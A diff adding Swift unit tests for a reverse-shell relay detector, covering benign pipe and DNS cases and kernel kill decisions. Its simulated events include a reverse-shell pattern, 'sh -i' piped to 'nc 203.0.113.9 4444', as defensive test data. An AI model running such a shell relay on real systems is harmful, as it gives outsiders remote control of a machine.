@@ -30,6 +30,8 @@ struct ShellRelayDetectorTests {
             alerts += detector.observe(record, source: ShellRelayDetectorTests.source, now: record.timestampNs)
         }
         mutating func connect(_ connection: ProcessConnection) { alerts += detector.observe(connection, now: connection.timestampNs) }
+        mutating func relay(_ relay: RelayConnect) { alerts += detector.observe(relay, now: relay.connection.timestampNs) }
+        mutating func tick(at now: UInt64) { alerts += detector.tick(now: now) }
 
         var relayed: [ProcessEvidence] {
             alerts.compactMap {
@@ -111,6 +113,87 @@ struct ShellRelayDetectorTests {
         run.exec(Self.exec(9001, parent: 9000, "sh", ["sh"], stdio: [.pipe(inode: 50), .pipe(inode: 51), .pipe(inode: 51)], at: 8_000))
         run.connect(Self.connect(9000, "node", to: ip("127.0.0.1"), at: 9_000))
         #expect(run.relayed.isEmpty, "\(run.relayed)")
+    }
+
+    @Test("benign: a container's processes share its log pipe as stdout; name lookups connect UDP sockets")
+    func sameSideOfAPipeAndUDP() {
+        var run = Run()
+        let log = StdioDescriptor.pipe(inode: 77)
+        // The service writes its log, holds a connection, and a sibling sh reads a script from a pipe.
+        run.exec(Self.exec(6101, parent: 6100, "java", ["java", "-jar", "app.jar"], stdio: [.characterDevice, log, log]))
+        run.connect(Self.connect(6101, "java", at: 1_000))
+        run.exec(Self.exec(6102, parent: 6100, "sh", ["sh"], stdio: [.pipe(inode: 78), log, log], at: 2_000))
+        // A process that resolved a name (UDP to the DNS service) then started a login shell on a pty.
+        var lookup = Self.connect(6201, "sshd", to: ip("10.96.0.10"), at: 3_000)
+        lookup.proto = .udp
+        run.connect(lookup)
+        run.exec(Self.exec(6202, parent: 6201, "bash", ["-bash"], stdio: [.terminal, .terminal, .terminal], at: 4_000))
+        #expect(run.relayed.isEmpty, "\(run.relayed)")
+    }
+
+    @Test("the kernel's decisions are reported: a shell it killed at exec, a relay it killed at connect, each once")
+    func kernelDecisions() throws {
+        var run = Run()
+        var shell = Self.exec(3002, parent: 3001, "bash", ["/bin/bash"], stdio: [.terminal, .terminal, .terminal], at: 5_000)
+        shell.killedAtExec = true
+        shell.relayedBy = Self.connect(3001, "python3", at: 1_000)
+        run.exec(shell)
+        let atExec = try #require(run.relayed.first)
+        #expect(atExec.relay == "python3" && atExec.killedAtExec && atExec.remote == Self.attacker)
+        run.connect(Self.connect(3001, "python3", at: 1_000))  // the hook's event, from the other ring
+        #expect(run.relayed.count == 1, "reported once")
+
+        let fromShell = StdioDescriptor.pipe(inode: 902)
+        run.exec(Self.exec(2002, parent: 2000, "sh", ["sh", "-i"], stdio: [.pipe(inode: 901), fromShell, fromShell], at: 6_000))
+        let nc = Self.connect(2003, "nc", at: 7_000)
+        run.relay(
+            RelayConnect(
+                process: ProcessIdentity(pid: 2003, namespacePid: 3, parentPid: 2000, cgroupID: 55, startNs: Clock.t0), connection: nc,
+                shellPid: 2002, killed: true))
+        let atConnect = try #require(run.relayed.last)
+        #expect(atConnect.comm == "sh" && atConnect.relay == "nc" && atConnect.relayKilled && !atConnect.killedAtExec)
+        run.connect(nc)
+        #expect(run.relayed.count == 2, "reported once")
+    }
+
+    @Test("where the kernel judges pipes, the hook's connect waits for its word, and reports alone if none comes")
+    func hookConnectWaitsForTheKernel() throws {
+        var run = Run()
+        run.detector.awaitKernelRelayDecisions()
+        let fromShell = StdioDescriptor.pipe(inode: 902)
+        run.exec(Self.exec(2002, parent: 2000, "sh", ["sh", "-i"], stdio: [.pipe(inode: 901), fromShell, fromShell]))
+        run.exec(Self.exec(2003, parent: 2000, "nc", ["nc", "203.0.113.9", "4444"], stdio: [fromShell, .file, .file], at: 1_000))
+        let nc = Self.connect(2003, "nc", at: 2_000)
+        run.connect(nc)  // the network ring's event first
+        #expect(run.relayed.isEmpty, "held for the kernel's word")
+        run.relay(
+            RelayConnect(
+                process: ProcessIdentity(pid: 2003, namespacePid: 3, parentPid: 2000, cgroupID: 55, startNs: Clock.t0), connection: nc,
+                shellPid: 2002, killed: true))
+        #expect(run.relayed.map(\.relayKilled) == [true])
+
+        // The hook's connect is read before the shell's exec (two rings), though the exec came first.
+        run.exec(Self.exec(5003, parent: 5000, "nc", ["nc"], stdio: [.pipe(inode: 702), .file, .file], at: 2_500))
+        let late = Self.connect(5003, "nc", at: 2_600)
+        run.connect(late)
+        run.exec(
+            Self.exec(5002, parent: 5000, "sh", ["sh", "-i"], stdio: [.pipe(inode: 701), .pipe(inode: 702), .pipe(inode: 702)], at: 2_400))
+        #expect(run.relayed.count == 1, "held for the kernel's word")
+        run.relay(
+            RelayConnect(
+                process: ProcessIdentity(pid: 5003, namespacePid: 3, parentPid: 5000, cgroupID: 55, startNs: Clock.t0), connection: late,
+                shellPid: 5002, killed: true))
+        #expect(run.relayed.count == 2 && run.relayed.last?.relayKilled == true)
+
+        // Its argument check gave up (say): no word comes; reported at the tick after the wait.
+        run.exec(
+            Self.exec(4002, parent: 4000, "sh", ["sh", "-i"], stdio: [.pipe(inode: 801), .pipe(inode: 802), .pipe(inode: 802)], at: 3_000))
+        run.exec(Self.exec(4003, parent: 4000, "nc", ["nc"], stdio: [.pipe(inode: 802), .file, .file], at: 4_000))
+        run.connect(Self.connect(4003, "nc", at: 5_000))
+        run.tick(at: Clock.t0 + 500_000_000)
+        #expect(run.relayed.count == 2)
+        run.tick(at: Clock.t0 + 1_100_000_000)
+        #expect(run.relayed.count == 3 && run.relayed.last?.relayKilled == false)
     }
 
     @Test("the relay's connect may arrive before its exec (two rings)")
